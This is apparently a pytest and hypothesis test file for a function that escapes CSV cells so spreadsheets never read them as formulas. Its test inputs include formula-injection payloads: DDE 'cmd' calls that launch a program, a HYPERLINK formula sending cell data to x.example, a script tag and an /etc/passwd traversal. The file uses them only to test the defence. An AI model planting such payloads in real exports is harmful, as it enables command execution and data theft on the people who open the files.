"""No cell that leaves is taken for a formula, whatever somebody wrote into a report."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wholeroute.disclosure import cell

SIGNS = "=+-@\t\r＝＋－＠"
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1;"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+39 06 698 1234",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "Tunis;=1+1",
    "Tunis,=1+1",
    "Tunis\t=1+1",
    "Tunis\n=1+1",
    "Tunis\r\n=1+1",
    'Tunis","=1+1',
    "Tunis;;@x",
    "a|=b",
    "＝1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "%0A=1+1",
    "undefined",
    "Ω≈ç√∫",
    "ثم نفس سقطت",
    "\u202a\u202atest\u202a",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\u202e=1+1",
)
texts = st.text(st.characters(exclude_categories=["Cs"])) | st.text(
    st.sampled_from("=+-@\t\r\n;,|'\" a1＝")
)


def unescaped(text: str) -> bool:
    """Return whether a sign that starts a formula stands where a cell may start, with nothing before."""
    return any(
        bare and bare[0] in SIGNS
        for part in re.split(r"[,;|\t\r\n]", text)
        if (bare := part.strip(" \u00a0").replace('"', ""))
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_text(text: str) -> None:
    assert not unescaped(cell(text)[1:-1])
    assert cell(text)[1] not in SIGNS


@given(texts)
def test_no_text_at_all_starts_a_formula_after_any_separator(text: str) -> None:
    made = cell(text)

    assert made[0] == made[-1] == '"'
    assert not unescaped(made[1:-1])
    assert made[1] not in SIGNS


@given(texts)
def test_a_cell_is_one_cell_and_keeps_what_was_said(text: str) -> None:
    ((read,),) = csv.reader(io.StringIO(cell(text), newline=""))

    def plain(said: str) -> str:
        return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufeff\ufffd']", "", said)

    assert plain(read) == plain(text)
